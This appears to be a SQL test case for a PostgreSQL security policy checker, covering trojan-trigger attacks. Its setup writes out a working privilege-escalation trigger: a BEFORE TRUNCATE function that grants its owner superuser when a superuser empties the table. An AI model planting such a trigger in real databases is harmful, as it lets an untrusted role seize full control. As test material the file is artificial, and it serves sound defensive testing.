/*---
title: Statement trigger fired by TRUNCATE
pattern: Trojan trigger on a table the victim truncates (CVE-2020-25695 family)
description: >
  mallory owns a cache table with a BEFORE TRUNCATE trigger and grants TRUNCATE on it to
  every role. alice, a superuser, empties the cache during maintenance; the statement
  trigger runs mallory's function with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: log_truncate on mallory.page_cache, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE TABLE mallory.page_cache (url text PRIMARY KEY, body text);
INSERT INTO mallory.page_cache VALUES ('/', '<html></html>');
GRANT TRUNCATE ON mallory.page_cache TO PUBLIC;
CREATE FUNCTION mallory.log_truncate() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN NULL;
END $$;
CREATE TRIGGER log_truncate BEFORE TRUNCATE ON mallory.page_cache
  FOR EACH STATEMENT EXECUTE FUNCTION mallory.log_truncate();
RESET ROLE;

-- @step alice
TRUNCATE mallory.page_cache;
